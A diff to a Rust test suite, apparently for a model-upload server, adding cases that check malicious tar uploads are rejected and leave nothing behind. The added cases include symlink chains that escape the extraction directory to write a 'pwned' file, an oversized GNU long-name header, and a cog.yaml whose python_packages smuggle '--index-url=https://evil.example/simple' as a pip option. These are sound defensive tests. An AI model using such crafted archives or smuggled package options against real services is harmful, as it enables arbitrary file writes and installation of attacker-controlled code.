@@ -126,6 +126,18 @@ fn leftovers(s: &Server) -> Vec<String> {
         .unwrap_or_default()
 }
 
+/// Whether a file called `name` is anywhere under `dir` (links are not followed).
+fn find_named(dir: &Path, name: &str) -> bool {
+    std::fs::read_dir(dir)
+        .into_iter()
+        .flatten()
+        .flatten()
+        .any(|e| {
+            e.file_name() == name
+                || (e.file_type().is_ok_and(|t| t.is_dir()) && find_named(&e.path(), name))
+        })
+}
+
 fn artifacts(s: &Server) -> usize {
     std::fs::read_dir(s.state.artifacts_dir())
         .map(|d| d.count())
@@ -306,6 +318,55 @@ async fn bad_uploads_leave_nothing_behind(b: Backend) {
             "gzip",
         ),
         (
+            "a chain of links, each inside alone, then a file through the last",
+            pack_raw(&[
+                ("cog.yaml", file, cog, ""),
+                ("sub/up", tar::EntryType::Symlink, b"", ".."),
+                ("esc", tar::EntryType::Symlink, b"", "sub/up/../../../.."),
+                ("esc/pwned", file, b"pwned", ""),
+            ]),
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "esc",
+        ),
+        (
+            "a link, then a file of the same name",
+            pack_raw(&[
+                ("cog.yaml", file, cog, ""),
+                ("up", tar::EntryType::Symlink, b"", "."),
+                ("pwned", tar::EntryType::Symlink, b"", "up/../.."),
+                ("pwned", file, b"pwned", ""),
+            ]),
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "pwned",
+        ),
+        (
+            "a GNU long name that claims a gigabyte",
+            {
+                let mut h = tar::Header::new_gnu();
+                h.set_size(1 << 30);
+                h.set_entry_type(tar::EntryType::GNULongName);
+                h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
+                h.set_cksum();
+                gzip(h.as_bytes().to_vec())
+            },
+            StatusCode::PAYLOAD_TOO_LARGE,
+            "long name",
+        ),
+        (
+            "python_packages that are pip options",
+            pack_raw(&[
+                (
+                    "cog.yaml",
+                    file,
+                    b"build:\n  python_packages:\n    - six\n    - \"--index-url=https://evil.example/simple\"\npredict: \"predict.py:Predictor\"\n",
+                    "",
+                ),
+                ("predict.py", file, b"x = 1\n", ""),
+            ]),
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "--index-url=https://evil.example/simple",
+        ),
+        (
             "missing predictor file",
             pack_raw(&[("cog.yaml", file, cog, "")]),
             StatusCode::UNPROCESSABLE_ENTITY,
@@ -326,6 +387,11 @@ async fn bad_uploads_leave_nothing_behind(b: Backend) {
         let detail = r.body["detail"].as_str().unwrap_or_default();
         assert!(detail.contains(says), "{what}: {detail}");
         assert!(leftovers(&s).is_empty(), "{what} left {:?}", leftovers(&s));
+        let outside = s.state.config.data_dir.parent().unwrap();
+        assert!(
+            !find_named(outside, "pwned"),
+            "{what} wrote a file through a link"
+        );
     }
     let wrong_type = s
         .http
